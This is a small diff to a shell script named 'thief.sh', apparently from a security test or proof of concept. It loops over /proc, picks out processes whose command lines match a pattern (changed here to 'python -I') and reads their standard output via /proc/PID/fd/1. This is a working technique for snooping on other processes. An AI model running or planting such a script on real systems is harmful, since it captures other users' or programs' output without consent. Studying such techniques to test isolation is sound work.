@@ -5,7 +5,7 @@
 cat > thief.sh <<'END'
 while :; do
     for process in /proc/[0-9]*; do
-        case "$(tr '\0' ' ' < "$process/cmdline")" in *run_port*|*pickle*) timeout 20 cat "$process/fd/1" ;; esac
+        case "$(tr '\0' ' ' < "$process/cmdline")" in *"python -I"*) timeout 20 cat "$process/fd/1" ;; esac
     done
 done
 END
